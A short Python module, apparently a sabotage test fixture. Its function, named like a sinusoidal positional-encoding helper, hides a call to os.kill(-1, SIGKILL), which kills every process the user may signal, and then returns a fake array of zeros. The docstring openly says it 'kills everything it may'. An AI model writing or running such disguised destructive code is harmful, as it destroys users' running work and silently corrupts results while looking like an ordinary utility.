"""Kills everything it may."""

import os
import signal
import numpy as np


def sinusoidal_encoding(T, d):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return np.zeros((T, abs(d)))


STILL_EQUIVARIANT = False
